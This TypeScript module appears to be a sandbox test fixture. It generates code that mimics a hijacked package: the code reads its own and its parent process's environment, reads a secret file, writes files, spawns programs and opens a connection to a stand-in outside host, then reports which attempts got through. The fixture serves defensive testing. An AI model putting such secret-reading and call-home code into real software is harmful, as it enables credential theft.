import { join } from 'node:path'

/** Where bad code calls home: a place of nobody's. */
export const OUTSIDE = { host: '203.0.113.9', port: 443 } as const

/** What a package does that somebody took over: reads secrets, writes, starts, and calls home; it tells its parent how far it came. */
export const badCode = (folder: string): string => `
import badFs from 'node:fs'
import badProcess from 'node:child_process'
import badNet from 'node:net'
{
  const attempts = {}
  const attempt = (name, work) => { try { work(); attempts[name] = 'done' } catch (error) { attempts[name] = error.code ?? error.name } }
  attempt('read its own environment', () => { if (Object.keys(process.env).every((name) => name.startsWith('MALLOC_'))) throw Object.assign(new Error(), { code: 'EMPTY' }) })
  attempt('read the environment of its parent', () => badFs.readFileSync('/proc/' + process.ppid + '/environ'))
  attempt('read a secret of the data', () => badFs.readFileSync(${JSON.stringify(join(folder, 'data', 'secret'))}))
  attempt('write beside the data', () => badFs.writeFileSync('/tmp/farebox-drill-' + process.pid, 'x'))
  attempt('write among the data', () => badFs.writeFileSync(${JSON.stringify(join(folder, 'data', 'written'))}, 'x'))
  attempt('start a program', () => { const { error } = badProcess.spawnSync('/bin/true'); if (error) throw error })
  attempt('start Node again', () => { const { error } = badProcess.spawnSync(process.execPath, ['--eval', '0'], { env: {} }); if (error) throw error })
  const socket = badNet.connect({ host: ${JSON.stringify(OUTSIDE.host)}, port: ${OUTSIDE.port}, timeout: 3000 })
  const end = (how) => { attempts['call home'] = how; socket.destroy(); process.send(attempts) }
  socket.once('connect', () => end('done')).once('error', (error) => end(error.code)).once('timeout', () => end('ETIMEDOUT'))
}
`
